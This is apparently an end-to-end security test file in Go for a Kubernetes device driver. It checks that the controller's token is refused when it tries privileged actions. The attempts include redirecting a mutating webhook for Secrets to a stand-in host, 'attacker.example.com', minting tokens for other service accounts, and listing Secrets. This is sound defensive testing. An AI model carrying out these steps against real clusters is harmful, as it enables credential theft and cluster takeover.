//go:build e2e

package attacks

import (
	"context"
	"testing"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	resourceapi "k8s.io/api/resource/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/utils/ptr"

	api "github.com/nadra-dev/nadra/pkg/api/v1alpha1"
	"github.com/nadra-dev/nadra/test/lab"
)

// TestAttackControllerToken uses the controller's token, and that of the account that writes the webhooks'
// CA, to reach what nadra does not need: Secrets, the credentials of other accounts, and the classes and
// templates of others.
func TestAttackControllerToken(t *testing.T) {
	a := setup(t, "brain")
	_, err := a.Kube.CoreV1().ServiceAccounts(lab.ControllerNamespace).Create(a.Ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "rich"}}, metav1.CreateOptions{})
	a.Must(err)
	a.Cleanup(func() {
		a.ignoring(a.Kube.CoreV1().ServiceAccounts(lab.ControllerNamespace).Delete(context.WithoutCancel(a.Ctx), "rich", metav1.DeleteOptions{}))
	})
	for _, account := range []string{"nadra-controller", "nadra-certificates"} {
		_, err := a.Kube.CoreV1().ServiceAccounts(lab.ControllerNamespace).Get(a.Ctx, account, metav1.GetOptions{})
		if apierrors.IsNotFound(err) {
			t.Logf("there is no account %s", account)
			continue
		}
		a.Must(err)
		a.webhooksAndSecrets(account, a.as(lab.ControllerNamespace, account, nil))
	}
	token := a.as(lab.ControllerNamespace, "nadra-controller", nil)
	a.try("delete the webhook's configuration", func(a *attempt) {
		err := token.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(a.Ctx, "nadra-controller", metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}})
		a.refused(err, "deleting nadra-controller")
	})
	a.try("change and delete another driver's DeviceClass", func(a *attempt) {
		classes := a.Kube.ResourceV1().DeviceClasses()
		class, err := classes.Create(a.Ctx, &resourceapi.DeviceClass{ObjectMeta: metav1.ObjectMeta{Name: otherDriver}}, metav1.CreateOptions{})
		a.Must(err)
		defer func() { a.ignoring(classes.Delete(a.Ctx, class.Name, metav1.DeleteOptions{})) }()
		changed := class.DeepCopy()
		changed.Labels = map[string]string{"app.kubernetes.io/managed-by": api.Controller}
		_, err = token.ResourceV1().DeviceClasses().Update(a.Ctx, changed, metav1.UpdateOptions{})
		a.refused(err, "labelling DeviceClass %s", class.Name)
		a.refused(token.ResourceV1().DeviceClasses().Delete(a.Ctx, class.Name, metav1.DeleteOptions{}), "deleting DeviceClass %s", class.Name)
	})
	a.try("create a DeviceClass of another driver", func(a *attempt) {
		class := &resourceapi.DeviceClass{ObjectMeta: metav1.ObjectMeta{Name: "made.example.com", Labels: map[string]string{"app.kubernetes.io/managed-by": api.Controller}}}
		_, err := token.ResourceV1().DeviceClasses().Create(a.Ctx, class, metav1.CreateOptions{})
		a.refused(err, "creating DeviceClass %s", class.Name)
		a.ignoring(a.Kube.ResourceV1().DeviceClasses().Delete(a.Ctx, class.Name, metav1.DeleteOptions{}))
	})
	made := map[string]string{api.ManagedByLabel: api.Controller}
	for _, tt := range []struct {
		name, template, namespace, class string
		labels                           map[string]string
	}{
		{"of another driver in kube-system", "foreign", metav1.NamespaceSystem, otherDriver, nil},
		{"of another driver that looks made", "nadra-made-0123456789", a.NS, otherDriver, made},
		{"of another driver that looks made in kube-system", "nadra-made-0123456789", metav1.NamespaceSystem, otherDriver, made},
		{"of nadra under another name", "foreign", metav1.NamespaceSystem, lab.DriverName, nil},
	} {
		a.try("create a template "+tt.name, func(a *attempt) {
			template := lab.Template(tt.namespace, tt.template, lab.Want{Network: a.NS + "/n"})
			template.Labels = tt.labels
			template.Spec.Spec.Devices.Requests[0].Exactly.DeviceClassName = tt.class
			if tt.class != lab.DriverName {
				template.Spec.Spec.Devices.Config = nil
			}
			_, err := token.ResourceV1().ResourceClaimTemplates(tt.namespace).Create(a.Ctx, template, metav1.CreateOptions{})
			a.refused(err, "creating ResourceClaimTemplate %s/%s", tt.namespace, tt.template)
			a.ignoring(a.Kube.ResourceV1().ResourceClaimTemplates(tt.namespace).Delete(a.Ctx, tt.template, metav1.DeleteOptions{}))
		})
	}
	a.try("delete a template of a tenant", func(a *attempt) {
		a.Must(a.CreateTemplate(a.Ctx, lab.Template(a.NS, "theirs", lab.Want{Network: "n"})))
		a.refused(token.ResourceV1().ResourceClaimTemplates(a.NS).Delete(a.Ctx, "theirs", metav1.DeleteOptions{}), "deleting ResourceClaimTemplate %s/theirs", a.NS)
	})
}

// webhooksAndSecrets tries to widen the webhook configurations, and to get the token of another account.
func (a *attempt) webhooksAndSecrets(account string, token kubernetes.Interface) {
	hooks := a.Kube.AdmissionregistrationV1().MutatingWebhookConfigurations()
	a.try(account+" adds a webhook for Secrets", func(a *attempt) {
		config, err := hooks.Get(a.Ctx, "nadra-controller", metav1.GetOptions{})
		a.Must(err)
		before := config.DeepCopy()
		config.Webhooks = append(config.Webhooks, admissionregistrationv1.MutatingWebhook{
			Name: "secrets.example.com", AdmissionReviewVersions: []string{"v1"}, SideEffects: ptr.To(admissionregistrationv1.SideEffectClassNone),
			ClientConfig:  admissionregistrationv1.WebhookClientConfig{URL: ptr.To("https://attacker.example.com/")},
			FailurePolicy: ptr.To(admissionregistrationv1.Ignore),
			Rules: []admissionregistrationv1.RuleWithOperations{{
				Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
				Rule:       admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"secrets"}},
			}},
		})
		_, err = token.AdmissionregistrationV1().MutatingWebhookConfigurations().Update(a.Ctx, config, metav1.UpdateOptions{})
		a.refused(err, "adding a webhook to %s", config.Name)
		a.restore(before)
	})
	a.try(account+" sends the webhook to another address", func(a *attempt) {
		config, err := hooks.Get(a.Ctx, "nadra-controller", metav1.GetOptions{})
		a.Must(err)
		before := config.DeepCopy()
		config.Webhooks[0].ClientConfig = admissionregistrationv1.WebhookClientConfig{URL: ptr.To("https://attacker.example.com/")}
		_, err = token.AdmissionregistrationV1().MutatingWebhookConfigurations().Update(a.Ctx, config, metav1.UpdateOptions{})
		a.refused(err, "changing the address of a webhook of %s", config.Name)
		a.restore(before)
	})
	for _, name := range []string{"nadra-webhook-tls", "attack"} {
		a.try(account+" makes a token of another account, as Secret "+name, func(a *attempt) {
			_, err := token.CoreV1().Secrets(lab.ControllerNamespace).Create(a.Ctx, &corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{Name: name, Annotations: map[string]string{corev1.ServiceAccountNameKey: "rich"}},
				Type:       corev1.SecretTypeServiceAccountToken,
			}, metav1.CreateOptions{})
			if apierrors.IsAlreadyExists(err) {
				err = nil // it was admitted: whoever deletes the Secret first succeeds
			}
			a.refused(err, "creating Secret %s with a token of another account", name)
			if name == "attack" {
				a.ignoring(a.Kube.CoreV1().Secrets(lab.ControllerNamespace).Delete(a.Ctx, name, metav1.DeleteOptions{}))
			}
		})
	}
	a.try(account+" requests a token of another account", func(a *attempt) {
		_, err := token.CoreV1().ServiceAccounts(lab.ControllerNamespace).CreateToken(a.Ctx, "rich", &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
		a.refused(err, "requesting a token of %s/rich", lab.ControllerNamespace)
	})
	a.try(account+" reads Secrets", func(a *attempt) {
		for _, namespace := range []string{"", lab.ControllerNamespace, metav1.NamespaceSystem} {
			_, err := token.CoreV1().Secrets(namespace).List(a.Ctx, metav1.ListOptions{})
			a.refused(err, "listing the Secrets of %q", namespace)
		}
	})
}

// restore writes an earlier state of the webhook's configuration.
func (a *attempt) restore(config *admissionregistrationv1.MutatingWebhookConfiguration) {
	a.Helper()
	config = config.DeepCopy()
	config.ResourceVersion = ""
	hooks := a.Kube.AdmissionregistrationV1().MutatingWebhookConfigurations()
	now, err := hooks.Get(a.Ctx, config.Name, metav1.GetOptions{})
	a.Must(err)
	config.ResourceVersion = now.ResourceVersion
	_, err = hooks.Update(a.Ctx, config, metav1.UpdateOptions{})
	a.Must(err)
}

// ignoring fails the row for an error of cleaning up, but not if there is nothing to clean up.
func (a *attempt) ignoring(err error) {
	a.Helper()
	if err != nil && !apierrors.IsNotFound(err) {
		a.Error(err)
	}
}
